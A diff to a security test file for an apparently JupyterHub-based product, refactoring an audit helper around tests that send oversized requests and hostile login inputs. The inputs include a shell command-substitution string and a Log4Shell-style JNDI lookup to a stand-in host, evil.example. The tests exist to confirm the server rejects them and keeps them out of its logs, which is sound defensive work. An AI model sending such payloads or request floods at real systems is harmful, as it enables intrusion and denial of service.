@@ -6,7 +6,7 @@ import { after, before, test } from 'node:test'
 import { TOTP } from 'otpauth'
 import { bootProduct, choosePassword, type Product, TLJH_TS } from '../host/product.ts'
 import { type Answer, type Visitor, visit } from '../host/visitor.ts'
-import { auditUntil, journalOf } from './traces.ts'
+import { auditOf, journalOf } from './traces.ts'
 import { lines, say, statusesIn } from './wire.ts'
 
 let product: Product
@@ -169,29 +169,30 @@ test('a name of a hundred megabytes, a form of ten thousand fields and a file ar
     'Content-Type: application/x-www-form-urlencoded',
     'Connection: close',
   ]
-  const announced = await say(
-    product.url,
-    lines([...head, 'Content-Length: 104857600'], `username=${'a'.repeat(1_000_000)}`),
-  )
-  assert.deepEqual(statusesIn(announced).slice(0, 1), announced ? [413] : [])
-  const chunk = `10000\r\n${'a'.repeat(0x10000)}\r\n`
-  const streamed = await say(
-    product.url,
-    lines([...head, 'Transfer-Encoding: chunked']),
-    ...Array.from({ length: 64 }, () => chunk),
-  )
-  assert.deepEqual(statusesIn(streamed).slice(0, 1), streamed ? [413] : [])
+  const trace = await auditOf(product.host, knock, async () => {
+    const announced = await say(
+      product.url,
+      lines([...head, 'Content-Length: 104857600'], `username=${'a'.repeat(1_000_000)}`),
+    )
+    assert.deepEqual(statusesIn(announced).slice(0, 1), announced ? [413] : [])
+    const chunk = `10000\r\n${'a'.repeat(0x10000)}\r\n`
+    const streamed = await say(
+      product.url,
+      lines([...head, 'Transfer-Encoding: chunked']),
+      ...Array.from({ length: 64 }, () => chunk),
+    )
+    assert.deepEqual(statusesIn(streamed).slice(0, 1), streamed ? [413] : [])
 
-  const visitor = visit(product.url)
-  await visitor.request('/hub/login')
-  const fields = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, '1']))
-  assert.equal((await visitor.post('/hub/login', fields)).status, 413)
-  const fewer = Object.fromEntries(Array.from({ length: 6_000 }, (_, index) => [`f${index}`, '']))
-  assert.equal((await visitor.post('/hub/login', { ...fewer, username: 'ann', password: 'x' })).status, 403)
-  assert.equal((await visitor.post('/hub/login', { username: 'a'.repeat(257), password: 'x' })).status, 400)
-  assert.equal((await visitor.post('/hub/login', { username: 'ann', password: 'a'.repeat(4097) })).status, 400)
+    const visitor = visit(product.url)
+    await visitor.request('/hub/login')
+    const fields = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, '1']))
+    assert.equal((await visitor.post('/hub/login', fields)).status, 413)
+    const fewer = Object.fromEntries(Array.from({ length: 6_000 }, (_, index) => [`f${index}`, '']))
+    assert.equal((await visitor.post('/hub/login', { ...fewer, username: 'ann', password: 'x' })).status, 403)
+    assert.equal((await visitor.post('/hub/login', { username: 'a'.repeat(257), password: 'x' })).status, 400)
+    assert.equal((await visitor.post('/hub/login', { username: 'ann', password: 'a'.repeat(4097) })).status, 400)
+  })
 
-  const trace = await auditUntil(product.host, 'after the long names', () => knock('after the long names'))
   for (const { MESSAGE } of [...trace, ...(await journalOf(product.host, 'tljh-hub'))])
     assert.ok(String(MESSAGE).length < 1000)
 })
@@ -243,7 +244,7 @@ test('nothing that is typed becomes a line of the log, a field of an entry, or a
     '$(touch /tmp/owned)`touch /tmp/owned`',
     '%s%n%x $' + '{jndi:ldap://evil.example/x}',
   ]
-  const entries = await auditUntil(host, 'the last of them', async () => {
+  const entries = await auditOf(host, knock, async () => {
     for (const text of hostile) {
       assert.equal((await knock(text, text)).status, 403, text)
       const visitor = visit(product.url)
@@ -254,7 +255,6 @@ test('nothing that is typed becomes a line of the log, a field of an entry, or a
       assert.equal((await visitor.request('/hub/home', { headers: cookie })).status, 302)
       assert.equal((await visitor.request('/hub/second-factor', { headers: cookie })).status, 302)
     }
-    await knock('the last of them')
   })
   assert.ok(entries.length >= 2 * hostile.length)
   for (const entry of entries) {
